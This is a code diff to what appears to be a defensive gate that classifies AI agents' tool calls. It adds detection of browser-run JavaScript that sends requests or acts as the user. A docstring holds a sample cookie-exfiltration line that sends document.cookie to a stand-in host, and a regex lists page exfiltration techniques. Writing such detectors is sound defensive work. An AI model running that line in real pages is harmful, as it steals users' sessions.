@@ -39,7 +39,7 @@ from ctxgate.gate.effects.names import READ_VERBS, name_words, operation_verb
 
 __all__ = ["ExecutedArgument", "executed_argument", "executed_effect", "executed_pointer"]
 
-ExecutedArgument = tuple[Literal["shell", "sql", "code", "http", "graphql"], str, str]
+ExecutedArgument = tuple[Literal["shell", "sql", "code", "page", "http", "graphql"], str, str]
 """``(kind, argument name, text)``; for ``http``, text is ``"METHOD url"``."""
 
 _COMMAND_KEYS = frozenset({"command", "cmd", "commands", "command_line", "commandline",
@@ -157,6 +157,10 @@ def _top_level(tool: str, server: str, arguments: Mapping[str, Any]) -> Executed
                 return "sql", key, value
         elif k in _SQL_KEYS and words & _DB_WORDS and looks_like_sql(value):
             return "sql", key, value
+    if words & _PAGE_WORDS and words & (_RUN_WORDS | _CODE_WORDS):
+        for key, value in strings:  # browser_run_script {"script": …}: JavaScript in a page
+            if key.lower() in _CODE_KEYS:
+                return "page", key, value
     for key, raw in arguments.items():
         k, command = str(key).lower(), _argv(raw)
         if command is None:
@@ -176,10 +180,39 @@ def _top_level(tool: str, server: str, arguments: Mapping[str, Any]) -> Executed
     if _runs_code(tool, words):
         shell = _SHELL_LANGUAGES & {str(v).lower() for k, v in arguments.items()
                                     if str(k).lower() in ("language", "lang", "kernel", "shell")}
+        page = not shell and bool(words & _PAGE_WORDS)
         for key, value in strings:
             if key.lower() in _CODE_KEYS:
-                return ("shell" if shell else "code"), key, value
+                return ("shell" if shell else "page" if page else "code"), key, value
     return None
+
+
+_PAGE_WORDS = frozenset({"browser", "page", "puppeteer", "playwright", "selenium", "chrome",
+                         "devtools", "tab", "webdriver"})
+"""A code-running tool named with one of these runs JavaScript in a web page."""
+_PAGE_SENDS = re.compile(
+    r"\bfetch\s*\(|XMLHttpRequest|sendBeacon|\bnew\s+(?:WebSocket|EventSource)\b|"
+    r"\.src\s*=(?!=)|\blocation(?:\.href)?\s*=(?!=)|\blocation\.(?:assign|replace)\s*\(|"
+    r"\bwindow\.open\s*\(|\.(?:submit|requestSubmit|click)\s*\(|\$\.(?:ajax|post|get)\s*\(|"
+    r"\baxios\b")
+"""What page JavaScript does that reaches a server or acts as the user: requests, beacons,
+sockets, an image or script source, a navigation, a form submit, a click."""
+
+
+def _page_effect(key: str, script: str) -> Effect | None:
+    """JavaScript a browser tool runs in the page (``puppeteer_evaluate``): it runs with the
+    user's session, so a request, a navigation, a submit or a click sends or acts as the user
+    (``fetch('https://x.example/?c=' + document.cookie)``); other scripts are left to the
+    model (``document.title``)."""
+    from ctxgate.gate.effects.model import EffectClass, EffectSource
+
+    m = _PAGE_SENDS.search(script)
+    if m is None:
+        return None
+    return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.CODE_SCAN,
+                  evidence=f"the script in argument {key!r} runs in the page with the user's "
+                           f"session and `{m.group(0).strip()}` sends a request or acts as "
+                           "the user")
 
 
 _MUTATION = re.compile(r"\A\s*(?:#[^\n]*\n\s*)*mutation\b[^{]*\{\s*(?:\w+\s*:\s*)?(\w+)")
@@ -250,6 +283,8 @@ def executed_effect(found: ExecutedArgument, *, cwd: str) -> Effect | None:
         return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.TOOL_NAME,
                       evidence=f"argument {key!r} is a GraphQL mutation ({field}): it {what} "
                                "a remote service")
+    if kind == "page":
+        return _page_effect(key, text)
     if kind == "code":
         from ctxgate.gate.effects.code import code_effect
 
